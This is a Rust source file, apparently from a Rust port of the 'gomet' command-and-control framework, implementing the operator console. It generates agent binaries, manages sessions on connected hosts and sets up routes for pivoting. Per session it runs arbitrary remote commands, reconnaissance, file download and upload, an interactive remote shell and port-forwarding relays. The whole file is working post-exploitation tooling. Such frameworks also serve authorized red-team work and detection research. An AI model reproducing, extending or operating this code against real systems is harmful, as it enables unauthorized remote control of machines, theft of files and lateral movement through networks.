//! Interactive two-mode shell (spec §6): a top-level `server` prompt
//! for session/route management, and a per-session prompt once an
//! operator `open`s one.

use std::io::Write as _;
use std::sync::Arc;

use rustyline::error::ReadlineError;
use rustyline::DefaultEditor;

use gomet_core::command::{Connect, Download, Execute, Listen, Shell, Upload};
use gomet_core::{Command, Server, SessionObserver};

pub struct PrintObserver;

impl SessionObserver for PrintObserver {
    fn new_session(&self, session: &Arc<gomet_core::Session>) {
        println!("[+] session {} connected: {}", session.id, session.summary());
    }

    fn close_session(&self, session: &Arc<gomet_core::Session>) {
        println!("[-] session {} closed", session.id);
    }
}

pub async fn run(server: Arc<Server>) {
    let mut editor = match DefaultEditor::new() {
        Ok(e) => e,
        Err(e) => {
            tracing::error!(error = %e, "failed to start cli");
            return;
        }
    };

    loop {
        match editor.readline("gomet> ") {
            Ok(line) => {
                let _ = editor.add_history_entry(line.as_str());
                if !dispatch_server_command(&server, line.trim()).await {
                    break;
                }
            }
            Err(ReadlineError::Interrupted) | Err(ReadlineError::Eof) => break,
            Err(e) => {
                tracing::error!(error = %e, "cli read error");
                break;
            }
        }
    }

    server.stop().await;
}

/// Returns `false` when the operator asked to exit.
async fn dispatch_server_command(server: &Arc<Server>, line: &str) -> bool {
    let mut parts = line.split_whitespace();
    match parts.next() {
        None => {}
        Some("exit") => return false,
        Some("info") => {
            println!("pub_key_hash: {}", server.pub_key_hash);
            println!("http_magic:   {}", server.http_magic);
        }
        Some("generate") => {
            let (os, arch) = (parts.next().unwrap_or("linux"), parts.next().unwrap_or("amd64"));
            match server.generate_agent(os, arch).await {
                Ok(path) => println!("generated {}", path.display()),
                Err(e) => println!("error: {e}"),
            }
        }
        Some("sessions") => match parts.next() {
            Some("list") | None => {
                for session in server.list_sessions() {
                    println!("{}: {}", session.id, session.summary());
                }
            }
            Some("open") => {
                let Some(id) = parts.next().and_then(|s| s.parse().ok()) else {
                    println!("usage: sessions open <id>");
                    return true;
                };
                match server.get_session(id) {
                    Some(session) => run_session_shell(server, session).await,
                    None => println!("error: invalid session id"),
                }
            }
            Some("close") => {
                let Some(id) = parts.next().and_then(|s| s.parse().ok()) else {
                    println!("usage: sessions close <id>");
                    return true;
                };
                if let Err(e) = server.close_session(id).await {
                    println!("error: {e}");
                }
            }
            Some(other) => println!("unknown sessions subcommand: {other}"),
        },
        Some("routes") => match parts.next() {
            Some("list") | None => {
                for (cidr, session_id) in server.list_routes() {
                    println!("{cidr} -> {session_id}");
                }
            }
            Some("add") => {
                let (Some(cidr), Some(id)) = (parts.next(), parts.next().and_then(|s| s.parse().ok())) else {
                    println!("usage: routes add <cidr> <sid>");
                    return true;
                };
                if let Err(e) = server.add_route(cidr, id) {
                    println!("error: {e}");
                }
            }
            Some("del") => {
                let Some(cidr) = parts.next() else {
                    println!("usage: routes del <cidr>");
                    return true;
                };
                if let Err(e) = server.del_route(cidr) {
                    println!("error: {e}");
                }
            }
            Some("clear") => server.clear_routes(),
            Some(other) => println!("unknown routes subcommand: {other}"),
        },
        Some(other) => println!("unknown command: {other}"),
    }
    true
}

/// The per-session prompt: `close`/`exit` leave it, `jobs`/`streams`
/// inspect state, and the remaining commands each build and run one
/// `Command` variant against this session.
async fn run_session_shell(server: &Arc<Server>, session: Arc<gomet_core::Session>) {
    let mut editor = match DefaultEditor::new() {
        Ok(e) => e,
        Err(_) => return,
    };
    loop {
        let prompt = format!("gomet ({})> ", session.id);
        let line = match editor.readline(&prompt) {
            Ok(l) => l,
            Err(_) => break,
        };
        let _ = editor.add_history_entry(line.as_str());
        let mut parts = line.trim().split_whitespace();
        match parts.next() {
            None => {}
            Some("exit") => break,
            Some("close") => {
                if let Err(e) = server.close_session(session.id).await {
                    println!("error: {e}");
                }
                break;
            }
            Some("jobs") => match parts.next() {
                Some("kill") => {
                    if let Some(id) = parts.next().and_then(|s| s.parse().ok()) {
                        println!("{}", session.kill_job(id).await);
                    }
                }
                _ => {
                    for (id, description) in session.jobs() {
                        println!("{id}: {description}");
                    }
                }
            },
            Some("streams") => match parts.next() {
                Some("kill") => {
                    if let Some(id) = parts.next().and_then(|s| s.parse().ok()) {
                        session.registry.close(gomet_core::StreamId(id));
                    }
                }
                _ => {
                    for id in session.registry.ids() {
                        println!("{id}");
                    }
                }
            },
            Some("execute") => {
                let remote_command: String = parts.collect::<Vec<_>>().join(" ");
                let mut stdout = std::io::stdout();
                let _ = session
                    .run_command(Command::Execute(Execute::new(
                        remote_command,
                        Box::new(LineWriter(std::io::stdout())),
                    )))
                    .await;
                let _ = stdout.flush();
            }
            Some("ls") | Some("getuid") | Some("pwd") | Some("ps") | Some("netstat") => {
                let name = line.trim().split_whitespace().next().unwrap();
                let lookup_name = if name == "getuid" { "id" } else { name };
                match server.os_command(&session.os, lookup_name) {
                    Some(shell_command) => {
                        let _ = session
                            .run_command(Command::Execute(Execute::new(
                                shell_command,
                                Box::new(LineWriter(std::io::stdout())),
                            )))
                            .await;
                    }
                    None => println!("no canned command for os {}", session.os),
                }
            }
            Some("download") => {
                let (Some(remote), Some(local)) = (parts.next(), parts.next()) else {
                    println!("usage: download <remote> <local>");
                    continue;
                };
                match std::fs::File::create(local) {
                    Ok(file) => {
                        let _ = session
                            .run_command(Command::Download(Download::new(
                                remote,
                                Box::new(tokio::fs::File::from_std(file)),
                            )))
                            .await;
                    }
                    Err(e) => println!("error: {e}"),
                }
            }
            Some("upload") => {
                let (Some(local), Some(remote)) = (parts.next(), parts.next()) else {
                    println!("usage: upload <local> <remote>");
                    continue;
                };
                match std::fs::File::open(local) {
                    Ok(file) => {
                        let _ = session
                            .run_command(Command::Upload(Upload::new(
                                remote,
                                Box::new(tokio::fs::File::from_std(file)),
                            )))
                            .await;
                    }
                    Err(e) => println!("error: {e}"),
                }
            }
            Some("cat") => {
                let Some(remote) = parts.next() else {
                    println!("usage: cat <remote>");
                    continue;
                };
                let _ = session
                    .run_command(Command::Download(Download::new(
                        remote,
                        Box::new(LineWriter(std::io::stdout())),
                    )))
                    .await;
            }
            Some("shell") => {
                println!("interactive shell: press ctrl-d to exit");
                let _ = session
                    .run_command(Command::Shell(Shell::new(
                        Box::new(tokio::io::stdin()),
                        Box::new(LineWriter(std::io::stdout())),
                    )))
                    .await;
            }
            Some("listen") => {
                let (Some(remote_addr), Some(local_addr)) = (parts.next(), parts.next()) else {
                    println!("usage: listen <remote_addr> <local_addr>");
                    continue;
                };
                let _ = session
                    .run_command(Command::Listen(Listen::new(remote_addr, local_addr)))
                    .await;
            }
            Some("connect") | Some("relay") => {
                let (Some(local_addr), Some(remote_addr)) = (parts.next(), parts.next()) else {
                    println!("usage: connect <local_addr> <remote_addr>");
                    continue;
                };
                let _ = session
                    .run_command(Command::Connect(Connect::new(local_addr, remote_addr)))
                    .await;
            }
            Some(other) => println!("unknown command: {other}"),
        }
    }
}

/// Adapts a blocking `std::io::Write` sink (the operator's terminal)
/// to `tokio::io::AsyncWrite` for commands that tee output locally.
struct LineWriter<W>(W);

impl<W: std::io::Write + Unpin> tokio::io::AsyncWrite for LineWriter<W> {
    fn poll_write(
        self: std::pin::Pin<&mut Self>,
        _cx: &mut std::task::Context<'_>,
        buf: &[u8],
    ) -> std::task::Poll<std::io::Result<usize>> {
        let this = self.get_mut();
        std::task::Poll::Ready(this.0.write(buf))
    }

    fn poll_flush(
        self: std::pin::Pin<&mut Self>,
        _cx: &mut std::task::Context<'_>,
    ) -> std::task::Poll<std::io::Result<()>> {
        let this = self.get_mut();
        std::task::Poll::Ready(this.0.flush())
    }

    fn poll_shutdown(
        self: std::pin::Pin<&mut Self>,
        cx: &mut std::task::Context<'_>,
    ) -> std::task::Poll<std::io::Result<()>> {
        self.poll_flush(cx)
    }
}
